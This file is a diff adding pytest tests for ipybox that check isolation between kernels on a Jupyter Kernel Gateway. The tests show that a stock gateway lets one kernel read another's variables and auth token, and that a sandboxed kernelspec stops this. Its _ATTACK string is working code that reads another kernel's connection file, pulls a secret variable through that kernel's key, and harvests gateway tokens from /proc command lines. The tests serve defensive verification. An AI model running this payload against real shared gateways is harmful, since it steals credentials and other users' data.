@@ -1,0 +1,137 @@
+"""Kernels of one Kernel Gateway against each other (issue #25, class 7).
+
+On a stock gateway every kernel runs as the gateway's user with its environment: one executor's
+kernel reads another's connection file, connects with its key and reads its variables, and reads the
+gateway's token from the gateway's command line. The host now asks each new kernel what it can see
+and refuses it; with the shipped kernelspec (deploy/gateway/ipybox-sandboxed, a gateway on the ipc
+transport) the same attack finds nothing and the kernel starts.
+"""
+
+from __future__ import annotations
+
+import json
+import shutil
+from collections.abc import Iterator
+from pathlib import Path
+
+import anyio
+import pytest
+from servers.gateway import Gateway, run_gateway
+
+from ipybox import CodeExecutor, ExecutionTimeout, GatewayKernel, KernelStartError, Timeouts
+
+pytestmark = [pytest.mark.anyio, pytest.mark.timeout(300)]
+
+REPO = Path(__file__).resolve().parents[1]
+SANDBOXED = "ipybox-sandboxed"
+# Two kernel starts on a loaded 2-core machine, one of them in a sandbox.
+START_TIMEOUT = 60.0
+
+# Kernel code of the attacker: the victim's connection file by its kernel id (only that one: other
+# gateways on this machine share the runtime directory), then its `secret` through its own key; and
+# every gateway token on a visible command line.
+_ATTACK = """
+import json, os
+from jupyter_core.paths import jupyter_runtime_dir
+path = os.path.join(jupyter_runtime_dir(), "kernel-{victim}.json")
+stolen = None
+if os.path.exists(path):
+    from jupyter_client import BlockingKernelClient
+    client = BlockingKernelClient(connection_file=path)
+    client.load_connection_file()
+    client.start_channels()
+    msg_id = client.execute("", silent=True, user_expressions={{"s": "secret"}})
+    while True:
+        reply = client.get_shell_msg(timeout=60)
+        if reply["parent_header"].get("msg_id") == msg_id:
+            break
+    stolen = reply["content"]["user_expressions"]["s"]["data"]["text/plain"]
+    client.stop_channels()
+tokens = []
+for pid in os.listdir("/proc"):
+    try:
+        args = open(f"/proc/{{pid}}/cmdline", "rb").read().split(b"\\0") if pid.isdigit() else []
+    except OSError:
+        continue
+    tokens += [a.split(b"=", 1)[1].decode() for a in args if a.startswith(b"--KernelGatewayApp.auth_token=")]
+print(json.dumps({{"file": os.path.exists(path), "stolen": stolen, "tokens": tokens}}))
+"""
+
+
+def _kernel(gateway: Gateway, **options: object) -> GatewayKernel:
+    return GatewayKernel(gateway.url, token=gateway.token, **options)  # pyright: ignore[reportArgumentType]
+
+
+async def _attack(attacker: CodeExecutor, victim_id: str) -> dict[str, object]:
+    result = await attacker.execute(_ATTACK.format(victim=victim_id))
+    return json.loads(result.text)
+
+
+@pytest.fixture(scope="module")
+def sandboxed_gateway(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Gateway]:
+    """A stock Kernel Gateway on the ipc transport with the shipped kernelspec installed, as docs/remote.md says."""
+    jupyter = tmp_path_factory.mktemp("jupyter")
+    shutil.copytree(REPO / "deploy" / "gateway" / SANDBOXED, jupyter / "kernels" / SANDBOXED)
+    with run_gateway(options=("--KernelManager.transport=ipc",), env={"JUPYTER_PATH": str(jupyter)}) as gateway:
+        yield gateway
+
+
+async def test_on_a_stock_gateway_a_kernel_reads_anothers_variables_and_the_token_so_the_host_refuses_to_start(
+    gateway: Gateway, tmp_path: Path
+) -> None:
+    timeouts = Timeouts(start=START_TIMEOUT)
+    trusting = _kernel(gateway, allow_unisolated_kernel=True)
+    before = set(gateway.kernel_ids())
+    with anyio.fail_after(START_TIMEOUT * 4):
+        async with CodeExecutor(workspace=tmp_path, tools_dir=None, kernel=trusting, timeouts=timeouts) as victim:
+            await victim.execute("secret = 'victim-42'")
+            [victim_id] = set(gateway.kernel_ids()) - before
+            # The attack, reproduced with the check turned off.
+            async with CodeExecutor(workspace=tmp_path, tools_dir=None, kernel=trusting, timeouts=timeouts) as attacker:
+                seen = await _attack(attacker, victim_id)
+            assert seen["stolen"] == "'victim-42'"
+            assert gateway.token in cast_list(seen["tokens"])
+
+            # By default the host refuses such a kernel, before anything of its own reaches it.
+            with pytest.raises(KernelStartError) as refused:
+                async with CodeExecutor(workspace=tmp_path, tools_dir=None, kernel=_kernel(gateway), timeouts=timeouts):
+                    pass
+    message = str(refused.value)
+    assert "not isolated from the gateway's other kernels" in message, message
+    assert "connection files" in message and f"kernel-{victim_id}.json" in message, message
+    assert "token on the command line" in message, message
+    assert "deploy/gateway/ipybox-sandboxed" in message and "allow_unisolated_kernel=True" in message, message
+    assert gateway.token not in message
+    assert set(gateway.kernel_ids()) == before, "the refused kernel was deleted"
+
+
+async def test_with_the_sandboxed_kernelspec_the_attack_finds_nothing_and_kernels_start(
+    sandboxed_gateway: Gateway, tmp_path: Path
+) -> None:
+    kernel = _kernel(sandboxed_gateway, kernel_name=SANDBOXED)
+    timeouts = Timeouts(start=START_TIMEOUT)
+    with anyio.fail_after(START_TIMEOUT * 4):
+        async with CodeExecutor(workspace=tmp_path, tools_dir=None, kernel=kernel, timeouts=timeouts) as victim:
+            await victim.execute("secret = 'victim-42'")
+            [victim_id] = sandboxed_gateway.kernel_ids()
+            async with CodeExecutor(workspace=tmp_path, tools_dir=None, kernel=kernel, timeouts=timeouts) as attacker:
+                seen = await _attack(attacker, victim_id)
+                assert seen == {"file": False, "stolen": None, "tokens": []}
+                looked = await attacker.execute(
+                    "import os\n"
+                    "print(sorted(p for p in os.listdir('/proc') if p.isdigit()), "
+                    "sorted(k for k in os.environ if 'TOKEN' in k and k != 'IPYBOX_TOOL_TOKEN'), os.listdir('/run'))"
+                )
+                # Its own processes only (the sandbox's init and the kernel), no token variable, no runtime dir.
+                assert looked.text == "['1', '2'] [] ['ipybox']\n", looked.text
+            # Interrupts are messages to a kernel in a session of its own: a timeout keeps the kernel's state.
+            with pytest.raises(ExecutionTimeout) as timed_out:
+                await victim.execute("import threading\nthreading.Event().wait()", timeout=2)
+            assert not timed_out.value.restarted
+            assert (await victim.execute("print(secret)")).text == "victim-42\n"
+    assert sandboxed_gateway.kernel_ids() == []
+
+
+def cast_list(value: object) -> list[object]:
+    assert isinstance(value, list)
+    return list(value)  # pyright: ignore[reportUnknownArgumentType]
